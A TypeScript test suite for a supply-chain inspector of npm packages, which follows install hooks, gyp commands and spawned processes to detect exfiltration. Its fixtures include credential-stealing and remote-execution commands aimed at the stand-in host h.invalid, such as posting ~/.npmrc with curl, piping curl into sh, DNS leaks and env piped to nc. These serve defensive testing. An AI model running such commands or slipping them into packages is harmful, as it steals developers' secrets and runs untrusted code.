import { gzipSync } from 'node:zlib'
import t from 'tap'
import type { CodeEntry, CodeHost } from '../../../lib/inspect/code/analysis.ts'
import type { CodeRun, FoundCommand, VirtualCode } from '../../../lib/inspect/code/code-run.ts'
import { inspectPackage, type InspectOptions } from '../../../lib/inspect/inspect-package.ts'
import type { Unpacked } from '../../../lib/fetch/unpacked.ts'
import { HOLE, type Inspection } from '../../../lib/types.ts'

function unpacked(files: Record<string, string | Uint8Array>): Unpacked {
  const list = Object.entries(files).map(([path, content]) => ({
    path,
    bytes: Buffer.from(content),
    mode: 0o644,
  }))
  return { files: list, tricks: [], gaps: [], bytes: 0 }
}

/** Stands for the analysis of JavaScript: `RUN line` in a file is a command it starts, `LOAD x` a file it loads. */
class Recorder implements CodeRun {
  readonly entries: CodeEntry[] = []
  readonly virtual: VirtualCode[] = []
  readonly host: CodeHost
  #next = 0
  #commands: FoundCommand[] = []

  constructor(host: CodeHost) {
    this.host = host
  }
  addEntry(entry: CodeEntry): void {
    this.entries.push(entry)
  }
  addVirtual(code: VirtualCode): void {
    this.virtual.push(code)
  }
  run(): void {
    for (; this.#next < this.entries.length; this.#next++) {
      const { path, phase } = this.entries[this.#next] ?? { path: '', phase: 'dormant' }
      for (const line of (this.host.text(path) ?? '').split('\n')) {
        const at = { path, line: 1, column: 1, code: line }
        if (line.startsWith('RUN ')) this.#commands.push({ text: line.slice(4), shell: true, at, phase })
        if (line.startsWith('SPAWN ')) {
          const [text = '', ...args] = line.slice(6).split(',')
          this.#commands.push({ text, args, shell: false, at, phase })
        }
      }
    }
  }
  takeCommands(): readonly FoundCommand[] {
    return this.#commands.splice(0)
  }
  result(): ReturnType<CodeRun['result']> {
    return { facts: [], flows: [], edges: [], gaps: [], filePhases: new Map([['loaded.js', 'import']]) }
  }
}

function inspect(
  files: Record<string, string | Uint8Array>,
  source: InspectOptions['source'] = 'registry',
): { inspection: Inspection; code: Recorder[] } {
  const code: Recorder[] = []
  const analysis = (host: CodeHost): CodeRun => {
    const recorder = new Recorder(host)
    code.push(recorder)
    return recorder
  }
  return { inspection: inspectPackage(unpacked(files), { source, analysis }), code }
}

const entriesOf = ({ entries }: Inspection): string[] => entries.map(({ phase, path }) => `${phase} ${path}`)
const manifest = (fields: object): string => JSON.stringify({ name: 'p', version: '1.0.0', ...fields })
const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(64)])

t.test('npm takes the scripts of the manifest it is told to', t => {
  const { inspection } = inspect({
    'package.json': manifest({
      scripts: {
        install: 'npm --prefix parts/a run go && npm run there -w @p/b',
        postinstall: 'cd parts/c/deep; yarn run here',
        go: 'node wrong.js',
      },
    }),
    'parts/a/package.json': manifest({
      scripts: { prego: 'node before.js', go: 'npm run on', on: 'node on.js' },
    }),
    'parts/b/package.json': JSON.stringify({ name: '@p/b', scripts: { there: 'node ./there.js' } }),
    'parts/c/package.json': manifest({ scripts: { here: 'node here.js', other: 'node wrong.js' } }),
    'parts/a/before.js': 'x',
    'parts/a/on.js': 'x',
    'parts/b/there.js': 'x',
    'parts/c/here.js': 'x',
    'parts/c/deep/x.txt': 'x',
    'wrong.js': 'x',
  })
  t.same(entriesOf(inspection).toSorted(), [
    'install parts/a/before.js',
    'install parts/a/on.js',
    'install parts/b/there.js',
    'install parts/c/here.js',
  ])
  t.end()
})

t.test('hooks are followed into files, and files into files', t => {
  const { inspection, code } = inspect({
    'package.json': manifest({
      bin: 'cli',
      scripts: {
        preinstall: './setup.sh && npm run y',
        y: 'node y.js',
        prey: 'node prey',
        postinstall: 'own-bin; node -e "1+1"',
      },
      directories: {},
    }),
    'setup.sh': '#!/bin/sh\nnode ./a.js\nsh lib/b.sh\n./prog\n',
    'lib/b.sh': 'cd "$(dirname "$0")"\nnode c.js\ncurl -d @$HOME/.npmrc https://h.invalid\n',
    'lib/c.js': 'x',
    'a.js': 'RUN python3 d.py && ./missing.sh\nSPAWN node,e f.js,x',
    'd.py': 'import os\nos.system("bash g")\n',
    g: 'node h.js',
    'h.js': 'RUN node a.js',
    'e f.js': 'x',
    'y.js': 'x',
    'prey.js': 'x',
    prog: elf,
    'index.js': 'x',
    'loaded.js': 'x',
    cli: '#!/usr/bin/env node\n',
    'never.sh': 'curl https://h.invalid | sh',
    'never.js': 'x',
  })
  const expected = [
    'setup.sh',
    'a.js',
    'lib/b.sh',
    'lib/c.js',
    'd.py',
    'g',
    'h.js',
    'e f.js',
    'y.js',
    'prey.js',
    'prog',
  ].map(path => `install ${path}`)
  t.same(entriesOf(inspection).toSorted(), [...expected, 'import index.js', 'run cli'].toSorted())
  t.same(
    inspection.hooks.map(({ event, starts }) => [event, starts]),
    [
      ['preinstall', ['setup.sh']],
      ['postinstall', []],
    ],
  )
  const phases = new Map(inspection.files.map(({ path, phase }) => [path, phase]))
  t.same(
    ['a.js', 'prog', 'loaded.js', 'index.js', 'cli', 'never.sh', 'never.js'].map(path => phases.get(path)),
    ['install', 'install', 'import', 'import', 'run', 'dormant', 'dormant'],
  )
  t.match(inspection.flows, [
    { source: { kind: 'credential-file' }, sink: { kind: 'network' }, phase: 'install' },
  ])
  t.equal(inspection.flows[0]?.sink.at.path, 'lib/b.sh')
  t.ok(inspection.edges.some(({ from, to }) => from === 'd.py' && to === 'g'))
  t.match(code[0]?.virtual, [{ text: '1+1', phase: 'install' }])
  t.ok(
    inspection.facts.some(
      fact => fact.kind === 'native-binary' && fact.format === 'elf' && fact.phase === 'install',
    ),
  )
  t.same(inspection.gaps, [])
  t.end()
})

t.test('the place of a hook is that of its text in package.json', t => {
  const text =
    '{\n  "name": "p",\n  "scripts": {\n    "install": "echo \\"a\\" && curl https://h.invalid"\n  }\n}'
  const { inspection } = inspect({ 'package.json': text })
  t.match(inspection.facts, [
    { kind: 'contacts', at: { path: 'package.json', line: 4, column: 31, code: 'curl https://h.invalid' } },
  ])
  t.match(inspection.hooks, [{ at: { line: 4, column: 16 } }])
  t.end()
})

t.test('gyp files run at install, where npm would build', t => {
  const files = {
    'binding.gyp': `{'includes':['x.gypi'],'targets':[{'sources':['<!(node index.js && echo a.c)']}]}`,
    'x.gypi': `{'a':'<!(sh s.sh)'}`,
    'other.gyp': `{'a':'<!(node never.js)'}`,
    'index.js': 'x',
    's.sh': 'nslookup $(whoami).h.invalid',
    'never.js': 'x',
  }
  const { inspection } = inspect({ 'package.json': manifest({ main: 'm.js' }), ...files })
  t.same(
    inspection.hooks.map(({ event, implicit, command }) => [event, implicit, command]),
    [['install', true, 'node-gyp rebuild']],
  )
  t.same(
    entriesOf(inspection).filter(entry => entry.startsWith('install')),
    ['install index.js', 'install s.sh'],
  )
  t.same(
    inspection.facts.filter(({ kind }) => kind === 'gyp-command').map(({ phase, at }) => [phase, at.path]),
    [
      ['install', 'binding.gyp'],
      ['install', 'x.gypi'],
      ['dormant', 'other.gyp'],
    ],
  )
  t.match(inspection.flows, [{ sink: { kind: 'dns' } }])
  const off = inspect({ 'package.json': manifest({ gypfile: false }), ...files }).inspection
  t.same(entriesOf(off), ['import index.js'])
  t.end()
})

t.test('an honest native addon shows nothing odd', t => {
  const { inspection } = inspect({
    'package.json': manifest({ scripts: { install: 'node-gyp-build' }, main: 'index.js' }),
    'index.js': 'x',
    'binding.gyp': `{'targets':[{'target_name':'a','sources':['src/a.cc'],'include_dirs':["<!(node -p \\"require('node-addon-api').include_dir\\")"],'conditions':[['OS=="mac"',{'xcode_settings':{'A':'YES'}}]]}]}`,
  })
  t.same(inspection.flows, [])
  t.same(inspection.gaps, [])
  t.same([...new Set(inspection.facts.map(({ kind }) => kind))].toSorted(), [
    'evaluates',
    'gyp-command',
    'starts',
  ])
  t.end()
})

t.test('packages inside the package are inspected, listed as bundled or not', t => {
  const { inspection } = inspect({
    'package.json': manifest({ bundleDependencies: ['@s/a'], scripts: { install: 'node install.js' } }),
    'install.js': 'x',
    'node_modules/@s/a/package.json': manifest({ scripts: { postinstall: 'curl https://h.invalid | sh' } }),
    'node_modules/@s/a/node_modules/b/index.js': 'x',
    'node_modules/stowaway/index.js': 'x',
    'node_modules/.bin/tool': '#!/bin/sh\n',
  })
  t.same(inspection.bundled.map(({ location }) => location).toSorted(), [
    'node_modules/@s/a',
    'node_modules/@s/a/node_modules/b',
    'node_modules/stowaway',
  ])
  const inner = inspection.bundled.find(({ location }) => location === 'node_modules/@s/a')
  t.match(inner?.inspection.flows, [{ sink: { kind: 'evaluate' }, phase: 'install' }])
  t.same(
    inspection.files.map(({ path }) => path),
    ['package.json', 'install.js', 'node_modules/.bin/tool'],
  )
  t.same(inspection.gaps, [])
  t.end()
})

t.test('a file is followed however the hook hands it over', t => {
  const commands: readonly (readonly [string, Record<string, string>?])[] = [
    ['cat lib/p.js | node'],
    ['cat lib/p.js | node -'],
    ['node < lib/p.js'],
    ['cp lib/p.js /tmp/q.js && node /tmp/q.js'],
    ['cd lib && mv p.js q.txt && node q.txt'],
    ['node lib/*.js'],
    ['for f in lib/*.js; do node $f; done'],
    ['NODE_OPTIONS=--require=./lib/p.js node index.js'],
    ['cross-env NODE_OPTIONS="-r ./lib/p.js" node index.js'],
    ['node --run setup', { setup: 'node lib/p.js' }],
  ]
  for (const [install, scripts = {}] of commands) {
    const { inspection } = inspect({
      'package.json': manifest({ scripts: { install, ...scripts } }),
      'index.js': '',
      'lib/p.js': 'x',
    })
    t.match(inspection.files, [{}, {}, { path: 'lib/p.js', phase: 'install' }], install)
  }
  const { inspection } = inspect({
    'package.json': manifest({ scripts: { postinstall: 'npm start' } }),
    'server.js': 'x',
  })
  t.match(inspection.files, [{}, { path: 'server.js', phase: 'install' }], 'npm start without a script')
  t.end()
})

t.test('what packages of a tarball load of each other is followed', t => {
  const files = {
    'package.json': manifest({ main: 'a.js', scripts: { install: 'node node_modules/inner/hook.js' } }),
    'a.js': `require('inner/lib/deep')`,
    'node_modules/inner/package.json': manifest({ main: 'main.js' }),
    'node_modules/inner/main.js': '',
    'node_modules/inner/hook.js': '',
    'node_modules/inner/lib/deep.js': '',
    'node_modules/inner/lib/later.js': '',
    'node_modules/inner/lib/unused.js': '',
    'node_modules/other/index.js': `require('../inner/lib/later.js')`,
  }
  const inspection = inspectPackage(unpacked(files), { source: 'registry' })
  const inner = inspection.bundled.find(({ location }) => location === 'node_modules/inner')
  t.same(
    inner?.inspection.files.map(({ path, phase }) => `${path} ${phase}`),
    [
      'package.json dormant',
      'main.js import',
      'hook.js install',
      'lib/deep.js import',
      'lib/later.js import',
      'lib/unused.js dormant',
    ],
  )
  t.end()
})

t.test('commands that JavaScript starts are read as commands', t => {
  const files = {
    'package.json': manifest({ scripts: { postinstall: 'node a.js' } }),
    'a.js': `require('child_process').exec('curl -d @' + require('os').homedir() + '/.npmrc https://h.invalid && node b.js')`,
    'b.js': `require('child_process').spawnSync('sh', ['-c', 'sh c.sh'])
require('child_process').spawn(process.execPath, [require('path').join(__dirname, 'lib', 'd.js')])`,
    'lib/d.js': 'x',
    'c.sh': 'curl https://h.invalid | sh',
  }
  const inspection = inspectPackage(unpacked(files), { source: 'registry' })
  t.same(
    inspection.files.map(({ phase }) => phase),
    ['dormant', 'install', 'install', 'install', 'install'],
  )
  const flows = inspection.flows.map(({ source, sink }) => `${source.kind} ${sink.kind} ${sink.at.path}`)
  t.ok(flows.includes('credential-file network a.js'))
  t.ok(flows.includes('network evaluate c.sh'))
  t.end()
})

t.test('a file of the package is followed, whatever folder it is started in', t => {
  const started = [
    `require('child_process').execFileSync(process.execPath, [__dirname + '/x.js'], { cwd: process.env.INIT_CWD })`,
    `require('child_process').fork(require.resolve('./x.js'), [], { cwd: '/tmp' })`,
    `require('child_process').execSync('cd "$INIT_CWD" && node ' + __dirname + '/x.js')`,
    `require('child_process').exec(\`pushd /tmp; node "\${__dirname}/x.js"\`)`,
    `require('child_process').spawn('node', ['x.js'], { cwd: __dirname })`,
    `require('child_process').spawn('node', [process.cwd() + '/x.js'], { cwd: process.env.INIT_CWD })`,
  ]
  for (const code of started) {
    const files = {
      'package.json': manifest({ scripts: { postinstall: 'node a.js' } }),
      'a.js': code,
      'x.js': "fetch('https://h.invalid')",
    }
    const { facts } = inspectPackage(unpacked(files), { source: 'registry' })
    t.ok(
      facts.some(({ kind, phase, at }) => kind === 'contacts' && phase === 'install' && at.path === 'x.js'),
      code,
    )
  }
  t.end()
})

t.test('a git dependency is prepared, a registry one is not', t => {
  const files = { 'package.json': manifest({ scripts: { prepare: 'node build.js' } }), 'build.js': 'x' }
  t.same(entriesOf(inspect(files, 'git').inspection), ['install build.js'])
  t.same(entriesOf(inspect(files, 'directory').inspection), ['install build.js'])
  t.same(entriesOf(inspect(files).inspection), [])
  t.end()
})

t.test('what cannot be read is a gap', t => {
  const cases: [string, Record<string, string>, RegExp][] = [
    ['no manifest', { 'index.js': 'x' }, /missing/],
    ['a manifest that is a list', { 'package.json': '[]' }, /not an object/],
    [
      'a script nobody reads',
      { 'package.json': manifest({ scripts: { install: `echo ${'a'.repeat(100_000)}` } }) },
      /too long/,
    ],
    ['a gyp file that is a program', { 'package.json': '{}', 'binding.gyp': 'f()' }, /no literal/],
    ['nested shells', { 'package.json': manifest({ scripts: { install: '$('.repeat(1000) } }) }, /deeper/],
  ]
  for (const [label, files, what] of cases) {
    const { gaps } = inspect(files).inspection
    t.match(gaps, [{ kind: 'content', what }], label)
  }
  t.end()
})

t.test('the handed-on reader decides, not the name of the file', t => {
  const { inspection, code } = inspect({
    'package.json': manifest({ scripts: { install: 'node logo.png; sh notes.txt; node data.json' } }),
    'logo.png': 'x',
    'notes.txt': 'curl https://h.invalid | sh',
    'data.json': '{}',
  })
  t.same(
    code[0]?.entries.map(({ path }) => path),
    ['logo.png', 'data.json'],
  )
  t.equal(inspection.flows.length, 1)
  t.end()
})

t.test('what a field names is JavaScript to Node whatever its name, unless it is none', t => {
  const pack = (main: string, text: string): Inspection =>
    inspectPackage(
      unpacked({
        'package.json': JSON.stringify({
          name: 'x',
          version: '1.0.0',
          main: `./${main}`,
          exports: { '.': `./${main}` },
        }),
        [main]: text,
      }),
      { source: 'registry' },
    )
  const sheet = pack('index.css', 'body { color: red }\n/* note */\n.a::after { content: "x" }\n')
  t.same([sheet.facts, sheet.gaps], [[], []])
  const code = pack('data.txt', `require('node:child_process').exec('placeholder --now')`)
  t.match(code.facts, [{ kind: 'starts', phase: 'import', commands: ['placeholder --now'] }])
  const deep = pack('deep.txt', `${'['.repeat(5_000)}require('node:child_process')${']'.repeat(5_000)}`)
  t.match(deep.gaps, [{ kind: 'content' }])
  t.end()
})

t.test('an inspection is plain data and the same every time', t => {
  const files = {
    'package.json': manifest({ scripts: { install: 'node a.js; curl https://h.invalid/$USER' } }),
    'a.js': 'RUN sh b.sh',
    'b.sh': 'env | nc h.invalid 1',
    'x.gz': gzipSync('x'),
  }
  const first = JSON.stringify(inspect(files).inspection)
  t.equal(JSON.stringify(inspect(files).inspection), first)
  t.same(structuredClone(inspect(files).inspection), inspect(files).inspection)
  t.end()
})

t.test('programs that start one another end', t => {
  const files: Record<string, string> = {
    'package.json': manifest({ scripts: { install: 'node 0.js; sh loop.sh; npm run install' } }),
    'loop.sh': 'sh loop.sh; . ./loop.sh; node 0.js',
  }
  for (let i = 0; i < 100; i++) files[`${i}.js`] = `RUN node ${i + 1}.js`
  const { gaps } = inspect(files).inspection
  t.match(gaps, [{ kind: 'content', what: /deep/ }])
  t.end()
})

t.test('what a program does not know of a command stays unknown in the shell', t => {
  const seen = (files: Record<string, string>) => {
    const facts = inspectPackage(unpacked(files), { source: 'registry' }).facts
    return facts.flatMap(fact => (fact.kind === 'contacts' ? fact.destinations : []))
  }
  const manifest = (postinstall: string) =>
    JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall } })
  t.strictSame(
    seen({
      'package.json': manifest('node i.js'),
      'i.js': "require('child_process').exec('curl https://' + process.env.HOST + '/x')",
    }),
    [`https://${HOLE}/x`],
  )
  // The same character in a text of the package is a character.
  t.strictSame(seen({ 'package.json': manifest(`curl https://c.invalid/${HOLE}x`) }), [
    'https://c.invalid/_x',
  ])
  t.end()
})
